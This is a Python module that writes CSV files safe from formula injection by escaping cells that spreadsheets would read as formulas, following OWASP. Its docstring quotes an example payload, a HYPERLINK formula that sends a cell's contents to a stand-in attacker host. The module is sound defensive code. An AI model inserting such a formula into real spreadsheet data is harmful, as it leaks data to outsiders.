"""CSV that a spreadsheet opens as data, never as formulas.

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return as a formula (CSV or "formula" injection): a subscriber named
``=HYPERLINK("https://evil.example/?"&A1, "Click")`` would run in the desk's spreadsheet.
Following OWASP's guidance (https://owasp.org/www-community/attacks/CSV_Injection), such a
cell is written with a leading apostrophe, which spreadsheets show as text and hide.

Every CSV the project writes goes through :func:`csv_writer`; a test walks the code for any
other ``csv.writer``.
"""

import csv
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def spreadsheet_cell(value: Any) -> Any:
    """``value`` unchanged, unless it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class _SafeWriter:
    def __init__(self, stream, **options):
        self._writer = csv.writer(stream, **options)

    def writerow(self, row):
        return self._writer.writerow([spreadsheet_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **options) -> _SafeWriter:
    """A ``csv.writer`` over ``stream`` whose text cells cannot become formulas."""
    return _SafeWriter(stream, **options)
